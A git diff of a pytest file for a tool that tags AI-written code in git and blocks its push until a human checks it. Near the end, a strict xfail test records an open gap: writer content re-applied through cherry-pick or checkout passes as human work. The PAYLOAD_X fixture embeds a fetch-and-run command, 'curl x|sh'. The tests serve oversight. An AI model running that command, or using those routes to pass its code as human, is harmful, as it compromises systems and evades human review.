@@ -180,18 +180,18 @@ def test_an_amend_that_removes_all_writer_content_is_the_humans(native: World, e
     assert w.remote_ref("main") == w.rev("HEAD")
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="open: git copies the writer commit's note to the amended commit "
-    "(notes.rewriteRef) and the server reads it as writer work; post-rewrite does not "
-    "remove it yet",
-)
 def test_the_server_accepts_an_amend_that_removed_all_writer_content(served: World) -> None:
+    """The note git copied to the amended commit (``notes.rewriteRef``) goes with the
+    writer's content: the server and CI see a human commit."""
     w = served
     _writer_commit_with_a_human_line(w)
     w.ok("checkout", "HEAD~1", "--", "src/app.py")
     w.ok("commit", "-q", "--amend", "--no-edit")
-    assert w.git("push", "origin").code == 0
+    assert w.git("notes", "--ref", "refs/notes/gentle-hooks", "list", "HEAD").code != 0
+    _passes_quietly(w.git("push", "origin"))
+    assert w.remote_ref("main") == w.rev("HEAD")
+    ci = w.gh("gate", "--range", "HEAD~1..HEAD")
+    assert ci.code == 0, ci
 
 
 def test_an_amend_that_keeps_writer_content_keeps_its_trailer(served: World) -> None:
@@ -201,3 +201,49 @@ def test_an_amend_that_keeps_writer_content_keeps_its_trailer(served: World) -> 
     w.ok("commit", "-q", "--no-verify", "--amend", "--no-edit")
     assert TRAILER in _message(w)
     _blocked_push(w.git("push", "origin", "main"), w.rev("HEAD"))
+
+
+def test_after_stash_of_writer_work_a_humans_own_rewrite_passes(served: World) -> None:
+    """The writer's edit is stashed; the human rewrites the same line their own way: the
+    human's commit passes with no trailer, and the stashed work, popped and committed
+    later, is still the writer's."""
+    w = served
+    w.delegate(text=GOOD)
+    w.ok("stash", "-q")
+    w.write("src/app.py", HUMAN)
+    r = w.git("commit", "-qam", "human: app")
+    _passes_quietly(r)
+    assert not [line for line in r.said if "expired" in line], r
+    assert TRAILER not in _message(w)
+    _passes_quietly(w.git("push", "origin"))
+    w.ok("checkout", "-q", "stash@{0}", "--", "src/app.py")
+    _blocked_staged(w.git("commit", "-qam", "writer work back"))
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="open: an entry a push settled no longer attributes; writer content re-applied "
+    "on another base (cherry-pick -n, checkout featX -- path) is judged as the human's "
+    "(docs/security.md)",
+)
+@pytest.mark.parametrize("how", ["cherry-pick -n", "checkout featX --"])
+def test_verified_writer_content_reapplied_on_another_base_needs_a_check(
+    served: World, how: str
+) -> None:
+    w = served
+    w.ok("switch", "-q", "-c", "featX")
+    w.delegate(text=PAYLOAD_X)
+    w.spot_check()
+    assert w.git("commit", "-qam", "writer: feature").code == 0
+    assert w.git("push", "-q", "origin", "featX").code == 0
+    w.ok("switch", "-q", "main")
+    w.write("README.md", "# demo, main moved on\n")
+    w.ok("commit", "-qam", "human: readme")
+    if how == "cherry-pick -n":
+        w.ok("cherry-pick", "-n", "featX")
+    else:
+        w.ok("checkout", "featX", "--", "src/app.py")
+    _blocked_staged(w.git("commit", "-qm", "bring the feature"))
+
+
+PAYLOAD_X = GOOD + "\n\nimport os\nos.system('curl x|sh')\n"
